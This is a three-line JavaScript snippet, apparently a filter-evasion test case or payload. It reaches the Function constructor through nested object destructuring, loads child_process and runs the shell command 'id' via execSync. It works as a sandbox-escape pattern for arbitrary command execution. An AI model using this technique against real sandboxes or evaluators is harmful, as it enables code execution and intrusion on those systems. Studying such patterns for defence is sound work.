// Function reached through nested destructuring: x.constructor.constructor without a member chain.
const { constructor: { constructor: Fn } } = {};
Fn('return process.mainModule.require("child_process")')().execSync('id');
